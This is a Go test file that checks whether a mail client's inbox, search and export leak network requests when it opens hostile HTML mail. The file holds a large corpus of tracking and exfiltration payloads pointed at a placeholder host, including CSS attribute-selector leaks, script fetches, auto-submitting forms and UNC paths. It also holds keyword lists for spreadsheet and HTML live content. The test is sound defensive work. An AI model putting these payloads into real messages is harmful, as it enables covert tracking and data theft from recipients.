package inbox

import (
	"archive/zip"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"kartoteka/app/core"
	"kartoteka/app/i18n"
	"kartoteka/app/ui/kit/kittest"
	"kartoteka/app/ui/kit/look"
	"kartoteka/data"
)

// calls are all known ways in which the HTML of a mail has a program ask some
// server for something. HOST stands for the server.
const calls = `<!DOCTYPE html><html manifest="http://HOST/manifest" xmlns:v="urn:schemas-microsoft-com:vml"><head>
<base href="http://HOST/base/"><meta http-equiv="refresh" content="0;url=http://HOST/refresh">
<meta http-equiv="Content-Security-Policy" content="report-uri http://HOST/csp"><meta http-equiv="Link" content="<http://HOST/link>; rel=preload">
<link rel="stylesheet" href="http://HOST/a.css"><link rel="prefetch" href="http://HOST/prefetch"><link rel="dns-prefetch" href="//HOST">
<link rel="preconnect" href="http://HOST"><link rel="preload" as="image" href="http://HOST/preload"><link rel="prerender" href="http://HOST/pr">
<link rel="icon" href="http://HOST/icon"><link rel="manifest" href="http://HOST/m.json"><link rel="modulepreload" href="http://HOST/m.js">
<style>@import url("http://HOST/import.css"); @font-face{font-family:x;src:url(http://HOST/font.woff)} body{background:url(http://HOST/css.png);
font-family:x;cursor:url(http://HOST/c.cur),auto} li{list-style-image:url(http://HOST/li.png)} p::after{content:url(http://HOST/after.png)}
@media print{p{background:url(http://HOST/print.png)}} input[value^=a]{background:url(http://HOST/leak)}</style>
<script src="http://HOST/a.js"></script><script>new Image().src="http://HOST/js.png";fetch("http://HOST/fetch");new WebSocket("ws://HOST/ws")</script>
</head><body background="http://HOST/body.png" onload="location='http://HOST/onload'">
<img src="http://HOST/img.png"><img srcset="http://HOST/1x.png 1x, http://HOST/2x.png 2x"><img src=//HOST/relative.png><img src="base.png">
<img lowsrc="http://HOST/low.png" dynsrc="http://HOST/dyn.avi" longdesc="http://HOST/long" src="cid:none"><image src="http://HOST/image.png">
<img src="x" onerror="this.src='http://HOST/onerror'"><img src="\\HOST\share\unc.png"><img src="file://HOST/share/smb.png"><img src="ftp://HOST/ftp.png">
<picture><source srcset="http://HOST/source.webp"><img src="http://HOST/picture.png"></picture><input type="image" src="http://HOST/input.png">
<table background="http://HOST/table.png"><tr background="http://HOST/tr.png"><td background="http://HOST/td.png">Reklamacja zamka</td><td>200 zl</td></tr></table>
<p style="background-image:url('http://HOST/style.png');border-image:url(http://HOST/border.png) 30;mask:url(http://HOST/mask.svg);filter:url(http://HOST/f.svg#a);
content:url(http://HOST/content.png);list-style:url(http://HOST/ls.png);behavior:url(http://HOST/b.htc);-moz-binding:url(http://HOST/xbl.xml)">Zamek nie dziala.</p>
<p style="background:u\72l(http://HOST/escaped.png);background:image-set('http://HOST/set.png' 1x)">Prosze o naprawe.</p>
<iframe src="http://HOST/frame"></iframe><iframe srcdoc="<img src=http://HOST/srcdoc.png>"></iframe><frameset><frame src="http://HOST/fs"></frameset>
<object data="http://HOST/object" classid="http://HOST/classid" codebase="http://HOST/cb"><param name="movie" value="http://HOST/movie"></object>
<embed src="http://HOST/embed"><applet code="http://HOST/applet" archive="http://HOST/ar"></applet><bgsound src="http://HOST/sound">
<video src="http://HOST/video" poster="http://HOST/poster"><source src="http://HOST/vs"><track src="http://HOST/track"></video><audio src="http://HOST/audio" autoplay></audio>
<svg><image href="http://HOST/svg.png" xlink:href="http://HOST/xlink.png"/><use href="http://HOST/use.svg#a"/><script href="http://HOST/svg.js"/>
<style>@import "http://HOST/svg.css";</style><foreignObject><img src="http://HOST/foreign.png"></foreignObject><feImage href="http://HOST/fe.png"/></svg>
<math><mi xlink:href="http://HOST/math">x</mi></math><v:rect><v:fill src="http://HOST/vml.png"/></v:rect><!--[if mso]><img src="http://HOST/mso.png"><![endif]-->
<form action="http://HOST/form" method="post"><input autofocus onfocus="this.form.submit()"><button formaction="http://HOST/button">OK</button></form>
<a href="http://HOST/link" ping="http://HOST/ping">oferta</a><a href="javascript:fetch('http://HOST/js')">tu</a><area href="http://HOST/area"><q cite="http://HOST/cite">c</q>
<ins cite="http://HOST/ins">n</ins><del cite="http://HOST/del">d</del><isindex action="http://HOST/isindex"><xml src="http://HOST/xml"></xml><portal src="http://HOST/portal"></portal>
<blockquote type="cite" cite="http://HOST/cite2">Kiedy montaz?<img src="http://HOST/quoted.png"></blockquote>
<div style="display:none"><img src="http://HOST/hidden.png"></div><noscript><img src="http://HOST/noscript.png"></noscript></body></html>`

// watch counts whoever calls: connections to a listener, look-ups of names, and
// requests of Go's own HTTP client.
type watch struct {
	tcp, names, web atomic.Int64
	host, name      string
}

func startWatch(t *testing.T) *watch {
	t.Helper()
	w := &watch{name: "dzwoni-do-domu.example"}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	w.host = l.Addr().String()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			w.tcp.Add(1)
			_ = c.Close()
		}
	}()
	resolver, transport := net.DefaultResolver, http.DefaultTransport
	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
		w.names.Add(1)
		return nil, net.ErrClosed
	}}
	http.DefaultTransport = refusing{w}
	t.Cleanup(func() {
		net.DefaultResolver, http.DefaultTransport = resolver, transport
		_ = l.Close()
	})
	return w
}

type refusing struct{ w *watch }

// RoundTrip counts a request and refuses it.
func (r refusing) RoundTrip(*http.Request) (*http.Response, error) {
	r.w.web.Add(1)
	return nil, net.ErrClosed
}

// quiet fails if anybody called, or the program holds a socket it did not hold.
func (w *watch) quiet(t *testing.T, after string, before int) {
	t.Helper()
	if n := w.tcp.Load(); n > 0 {
		t.Errorf("%s: %d connections", after, n)
	}
	if n := w.names.Load(); n > 0 {
		t.Errorf("%s: %d names were looked up", after, n)
	}
	if n := w.web.Load(); n > 0 {
		t.Errorf("%s: %d requests", after, n)
	}
	if n := sockets(t); n > before {
		t.Errorf("%s: %d sockets, %d before", after, n, before)
	}
}

// sockets counts those that this program holds, where the system tells.
func sockets(t *testing.T) int {
	t.Helper()
	if runtime.GOOS != "linux" {
		return 0
	}
	files, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range files {
		if to, err := os.Readlink("/proc/self/fd/" + f.Name()); err == nil && strings.HasPrefix(to, "socket:") {
			n++
		}
	}
	return n
}

// calling is a card index with one client and her mail, which calls wherever it
// can, by number and by name.
func calling(t *testing.T, w *watch) (*core.Core, int64) {
	t.Helper()
	c, err := core.Open(t.Context(), core.Options{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	id, err := c.AddContact(t.Context(), data.Contact{
		Kind: data.Person, GivenName: "Ewa", FamilyName: "Kowal", Handles: []data.Handle{{Kind: data.HandleEmail, Value: "ewa@klienci.example"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for i, host := range []string{w.host, w.name} {
		raw := fmt.Sprintf("From: Ewa Kowal <ewa@klienci.example>\nTo: biuro@firma.example\nSubject: Reklamacja zamka %d\nMessage-ID: <%d@klienci.example>\n"+
			"Date: %s\nDisposition-Notification-To: ewa@%s\nReturn-Receipt-To: ewa@%s\nContent-Type: text/html; charset=utf-8\n\n%s",
			i, i, time.Now().Format(time.RFC1123Z), host, host, strings.ReplaceAll(calls, "HOST", host))
		path := filepath.Join(t.TempDir(), "list.eml")
		if err := os.WriteFile(path, []byte(raw), 0o600); err != nil {
			t.Fatal(err)
		}
		files = append(files, path)
	}
	if r, err := c.Import(t.Context(), files, false); err != nil || r.New != 2 {
		t.Fatalf("imported %+v, %v", r, err)
	}
	return c, id
}

// TestNoMailCallsHome holds that a mail that calls its sender in every known way
// reaches nobody: not while it is listed, read, unfolded, found or exported.
func TestNoMailCallsHome(t *testing.T) {
	w := startWatch(t)
	before := sockets(t)
	c, contact := calling(t, w)
	w.quiet(t, "importing", before)
	st := kittest.New(t, "pl", look.ModeLight)
	st.Resize(1280, 1300)
	s := New(st.Env, c, func() {})
	t.Cleanup(s.Close)
	st.Show(s.Content())
	rows := mailOf(t, c)
	for _, id := range rows {
		s.Show(id)
		says(t, st, "zdalnych zablokowanych", "Reklamacja zamka", "Zamek nie dziala.")
		_ = st.Window.Canvas().Capture()
		st.Tap(t, "Pokaż cytowany tekst")
		_ = st.Window.Canvas().Capture()
		toggle(t, st, "Sam tekst")
		_ = st.Window.Canvas().Capture()
		toggle(t, st, "Z formatowaniem")
	}
	w.quiet(t, "reading", before)
	if hits, err := c.Search(t.Context(), "zamek", 10); err != nil || len(hits) == 0 {
		t.Errorf("found %v, %v", hits, err)
	}
	if err := c.EachMessage(t.Context(), data.MessageFilter{}, func(data.Message) error { return nil }); err != nil {
		t.Error(err)
	}
	w.quiet(t, "searching", before)
	exported(t, c, contact)
	w.quiet(t, "exporting", before)
}

func mailOf(t *testing.T, c *core.Core) []int64 {
	t.Helper()
	var out []int64
	if err := c.EachMessage(t.Context(), data.MessageFilter{}, func(m data.Message) error {
		out = append(out, m.ID)
		return nil
	}); err != nil || len(out) != 2 {
		t.Fatalf("%d messages, %v", len(out), err)
	}
	return out
}

// exported writes all that can be written of the mail. What is written for a
// browser or a spreadsheet must not call either.
func exported(t *testing.T, c *core.Core, contact int64) {
	t.Helper()
	words, dir := i18n.New("pl", time.UTC), t.TempDir()
	for _, name := range []string{"a.csv", "a.xlsx", "a.json"} {
		if n, err := c.Export(t.Context(), data.ExportOptions{List: "interactions", Path: filepath.Join(dir, name)}, words, nil); err != nil || n != 2 {
			t.Errorf("%s: %d, %v", name, n, err)
		}
	}
	if n, err := c.ExportMail(t.Context(), filepath.Join(dir, "mail.mbox"), data.MessageFilter{}, nil); err != nil || n != 2 {
		t.Errorf("mail: %d, %v", n, err)
	}
	if err := c.SubjectExport(t.Context(), contact, words, filepath.Join(dir, "dane.zip")); err != nil {
		t.Fatal(err)
	}
	for name, live := range map[string][]string{
		"dane.zip": {"<img", "<iframe", "<script", "<link", "<object", "<form", "@import", "url(", "http-equiv=\"refresh", "src=\"http", "<base"},
		"a.xlsx":   {"<hyperlink", "externalLink", "IMPORTDATA", "WEBSERVICE("},
	} {
		for entry, text := range unzipped(t, filepath.Join(dir, name)) {
			for _, mark := range live {
				if strings.Contains(text, mark) {
					t.Errorf("%s, %s holds %s", name, entry, mark)
				}
			}
		}
	}
}

// unzipped returns the pages and parts of an archive: not the mails as they came.
func unzipped(t *testing.T, path string) map[string]string {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	out := map[string]string{}
	for _, f := range z.File {
		if !strings.HasSuffix(f.Name, ".html") && !strings.HasSuffix(f.Name, ".xml") && !strings.HasSuffix(f.Name, ".rels") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		_ = r.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(b)
	}
	if len(out) == 0 {
		t.Fatalf("%s has no pages", path)
	}
	return out
}
